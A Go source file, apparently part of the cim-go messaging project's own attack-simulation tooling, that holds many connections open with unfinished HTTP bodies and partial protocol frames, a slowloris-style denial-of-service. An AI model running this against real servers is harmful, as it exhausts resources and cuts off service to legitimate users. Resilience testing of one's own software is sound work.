package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"os"
	"time"

	"github.com/cim-go/cim/proto"
	"github.com/cim-go/cim/proto/retry"
)

// holder keeps a connection open with input that does not end. At fixed moments it
// replaces the connection.
type holder struct {
	from    net.IP
	to      string
	opening []byte
	renew   time.Duration
	counter *counter
}

// perAddress is how many connections one attacker holds, unless it shares the users'
// address.
const perAddress = 20

func (g *generator) holdAll(ctx context.Context) {
	for i := range g.Bodies {
		h := holder{Address(bodyNetwork, i/perAddress), g.Route, unfinishedBody(i), g.Renew, &g.bodies}
		if i < g.Shared {
			h.from = nil
		}
		g.hold(ctx, h, i, g.Bodies)
	}
	for i := range g.Frames {
		h := holder{Address(frameNetwork, i/perAddress), g.Node, unfinishedFrame(), g.Renew, &g.frames}
		g.hold(ctx, h, i, g.Frames)
	}
}

// unfinishedBody returns a request's whole head, and one byte of the body.
func unfinishedBody(i int) []byte {
	path := []string{proto.PathLogin, proto.PathRegister, proto.PathSend, proto.PathPull}[i%4]
	return append(head(path, "", 200), '{')
}

// unfinishedFrame returns the beginning of a frame: the length of the longest login that
// a node accepts, and one byte.
func unfinishedFrame() []byte {
	return append(binary.AppendUvarint(nil, 16<<10), 0x18) // the tag of the command
}

// hold runs the holder with the index i, of n holders, until ctx ends. The moments at
// which the n holders replace their connections are spread.
func (g *generator) hold(ctx context.Context, h holder, i, n int) {
	at := time.Now().Add(g.Renew * time.Duration(i) / time.Duration(n))
	g.all.Go(func() {
		for ; retry.Sleep(ctx, time.Until(at)); at = at.Add(h.renew) {
			h.counter.try(1)
			h.counter.end(h.once(ctx, at.Add(h.renew)))
		}
	})
}

// once holds one connection until the given time, and returns the way in which that
// connection ended.
func (h *holder) once(ctx context.Context, until time.Time) (how string) {
	conn, err := dialer(h.from).DialContext(ctx, "tcp", h.to)
	if err != nil {
		return "not connected"
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	_ = conn.SetDeadline(until) // it fails only for a closed connection, as does the write
	if _, err := conn.Write(h.opening); err != nil {
		return "closed"
	}
	answer, err := io.ReadAll(io.LimitReader(conn, 4<<10))
	status, isHTTP := bytes.CutPrefix(answer, []byte("HTTP/1.1 "))
	switch {
	case errors.Is(err, os.ErrDeadlineExceeded):
		return "held"
	case isHTTP && len(status) >= 3:
		return "status " + string(status[:3])
	default:
		return "closed"
	}
}
